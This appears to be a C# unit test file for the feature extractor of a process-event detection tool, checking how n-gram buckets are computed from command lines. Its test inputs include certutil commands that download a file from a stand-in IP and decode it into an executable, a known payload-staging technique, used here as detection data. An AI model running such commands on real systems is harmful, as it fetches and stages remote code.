using Changeling.Features;
using Changeling.TestSupport;

namespace Changeling.Core.Tests.Features;

public class SparseGramTests
{
    [Fact]
    public void Buckets_are_ascending_distinct_and_in_range()
    {
        var grams = FeatureExtractor.Extract(
            Some.ProcessEvent(child: "certutil.exe", commandLine: "certutil -urlcache -split -f http://192.0.2.1/a a a a")).Grams;

        Assert.NotEmpty(grams);
        Assert.Equal(grams.Distinct().Order(), grams);
        Assert.All(grams, g => Assert.InRange(g, 0, SparseGrams.Buckets - 1));
    }

    [Theory]
    [InlineData("certutil -urlcache -split")]
    [InlineData("x.exe")]
    [InlineData("certutil -a -b -a http://192.0.2.1/a.txt C:\\Users\\Public\\a.txt; certutil -decode a.txt b.exe")]
    public void Every_set_bucket_has_a_text_and_no_other(string commandLine)
    {
        var e = Some.ProcessEvent(child: "certutil.exe", commandLine: commandLine, parentCommandLine: "explorer /factory -embedding");
        var (launch, features) = (Launch.Of(e), FeatureExtractor.Extract(e));

        var buckets = Enumerable.Range(0, FeatureSchema.Computed.Count)
            .Where(f => features.Values[f] != 0)
            .Select(f => SparseGrams.BucketOf(f, features.Values[f]))
            .Concat(GramTexts.Of(launch).Select(t => t.Bucket))
            .Concat(GramTexts.Letters(launch).Select(t => t.Bucket));

        Assert.Equal(features.Grams, buckets.Distinct().Order());
    }

    [Fact]
    public void Host_user_name_and_time_are_no_grams()
    {
        var e = Some.ProcessEvent();
        var elsewhere = e with { Host = new("other"), User = new("someone", "ELSE"), Time = e.Time.AddYears(1) };

        Assert.Equal(FeatureExtractor.Extract(e).Grams, FeatureExtractor.Extract(elsewhere).Grams);
    }
}
